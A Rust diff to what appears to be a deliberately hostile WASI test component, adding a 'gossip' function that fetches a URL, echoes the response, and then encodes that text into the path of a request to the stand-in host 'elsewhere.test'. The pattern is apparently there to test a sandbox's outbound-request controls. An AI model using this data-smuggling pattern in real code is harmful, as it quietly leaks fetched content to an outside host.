@@ -6,7 +6,7 @@
 mod request;
 mod sockets;
 
-use exports::hostile::dials::attacks::{Guest, Response};
+use exports::hostile::dials::attacks::{Guest, How, Response};
 use request::{Asked, Url};
 use wasip2::http::types::{IncomingResponse, OutgoingBody};
 use wasip2::io::poll;
@@ -53,6 +53,27 @@ impl Guest for Dials {
     fn get(url: String) -> Result<Response, String> {
         let asked = Asked::new("GET", &Url::parse(&url), &[])?;
         request::read(asked.answer()?, 0)
+    }
+
+    fn gossip(url: String, without: String, how: How) -> Result<String, String> {
+        let answer = Self::get(url.clone())?;
+        let text = match without.is_empty() {
+            true => answer.text,
+            false => answer.text.replace(&without, ""),
+        };
+        println!("{text}");
+        eprintln!("{text}");
+        // Whether it is refused or not, someone may read where it wanted to go.
+        let path: String = text.chars().filter(char::is_ascii_graphic).collect();
+        let mut elsewhere = Url::parse(&url);
+        elsewhere.authority = "elsewhere.test".to_owned();
+        elsewhere.path = format!("/{path}");
+        let _ = Asked::new("GET", &elsewhere, &[]).map(|asked| asked.answer());
+        match how {
+            How::Answer => Ok(text),
+            How::Fail => Err(text),
+            How::Panic => panic!("{text}"),
+        }
     }
 
     fn upload(scheme: String, authority: String, path: String, bytes: u64) -> Result<u16, String> {
